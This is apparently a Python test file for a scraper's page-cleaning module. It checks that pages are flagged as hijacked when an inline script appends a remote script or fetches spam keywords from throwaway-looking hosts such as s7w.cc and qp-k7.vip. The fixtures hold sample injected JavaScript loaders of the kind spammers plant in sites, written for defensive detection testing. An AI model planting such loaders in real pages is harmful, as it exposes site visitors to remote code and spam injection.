"""A load a script creates when run (an appended <script>, a fetch) is asked what a <script src>
tag is asked: a throwaway-shaped host (a spam-prone TLD, a digit name, a look-alike) that nothing
else of the page names flags the page (v41 §1 B1: the shape was asked of static tags only, so the
same loader passed once a script appended it; dev rc4-012, syn16-008/-017, sv24-015). A created
load from an ordinary host, or from a shaped host the page names elsewhere, stays clean."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.conftest import kinds
from tests.clean.test_structural import URL, page


def _with(script: str, top: str = "") -> bytes:
    return page(body="<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作，区长主持会议并讲话。</p>"
                     "<p>会议指出，城乡环境综合整治是一项民心工程，各街道、各部门要对照任务清单，细化工作措施。</p>"
                     f"<script>{script}</script>", top=top)


def _appends(address: str) -> str:
    return ('(function(){var s=document.createElement("script");s.src="' + address + '";'
            'document.getElementsByTagName("head")[0].appendChild(s);})();')


def test_a_created_load_from_a_shaped_host_flags_the_page():
    a = clean_page(_with(_appends("http://j.s7w.cc/j/?v=1&t=fx")), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert any("s7w.cc" in f.evidence for f in a.findings)
    assert "会议指出" in a.text


def test_a_fetch_from_a_shaped_host_flags_the_page():
    script = ("fetch('https://cdn.qp-k7.vip/kw/cn-keyword.json').then(function(r){return r.json();})"
              ".then(function(k){var d=document.createElement('div');d.innerHTML=k.join(' ');"
              "document.body.appendChild(d);});")
    a = clean_page(_with(script), url=URL)
    assert a.hijacked and any("qp-k7.vip" in f.evidence for f in a.findings)


def test_created_loads_from_ordinary_or_named_hosts_stay_clean():
    assert not clean_page(_with(_appends("https://static.example-widgets.com/w/loader.js")), url=URL).hijacked
    top = '<a href="http://www.s7w.cc/">合作伙伴</a>'
    assert not clean_page(_with(_appends("http://j.s7w.cc/j/?v=1&t=fx"), top=top), url=URL).hijacked
